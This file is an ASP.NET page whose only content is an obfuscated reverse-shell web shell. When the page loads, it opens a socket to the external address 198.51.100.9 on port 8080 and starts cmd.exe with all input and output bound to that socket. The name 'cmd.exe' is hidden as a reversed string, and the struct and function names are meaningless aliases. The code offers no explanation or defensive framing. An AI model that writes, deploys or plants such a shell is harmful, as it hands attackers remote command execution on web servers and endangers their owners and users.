<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    [StructLayout(LayoutKind.Sequential)]
    public struct Q1 { public int cb; public String a; public String b; public String c; public uint x; public uint y; public uint xs; public uint ys; public uint xc; public uint yc; public uint fa; public uint fl; public short sw; public short r2; public IntPtr lp; public IntPtr hStdInput; public IntPtr hStdOutput; public IntPtr hStdError; }
    [StructLayout(LayoutKind.Sequential)]
    public struct Q2 { public IntPtr h1; public IntPtr h2; public uint i1; public uint i2; }
    [DllImport("kernel32.dll", EntryPoint = "CreateProcessW", CharSet = CharSet.Unicode)]
    static extern bool Mk(string a, string b, IntPtr c, IntPtr d, bool e, uint f, IntPtr g, string h, ref Q1 i, out Q2 j);
    [DllImport("ws2_32.dll", EntryPoint = "WSASocketA", SetLastError = true)]
    static extern IntPtr Sk(int a, int b, int c, IntPtr d, uint e, int f);
    [DllImport("ws2_32.dll", EntryPoint = "connect")]
    static extern int Cn(IntPtr s, byte[] a, int l);
    string U(string s) { char[] c = s.ToCharArray(); Array.Reverse(c); return new string(c); }
    protected void Page_Load(object sender, EventArgs e)
    {
        IntPtr h = Sk(2, 1, 6, IntPtr.Zero, 0, 0);
        byte[] sa = new byte[16]; sa[0] = 2; sa[2] = 0x1f; sa[3] = 0x90; sa[4] = 198; sa[5] = 51; sa[6] = 100; sa[7] = 9;
        Cn(h, sa, sa.Length);
        Q1 q = new Q1(); q.fl = 0x101; q.hStdInput = h; q.hStdOutput = h; q.hStdError = h;
        Q2 r;
        Mk(null, U("exe.dmc"), IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref q, out r);
    }
</script>
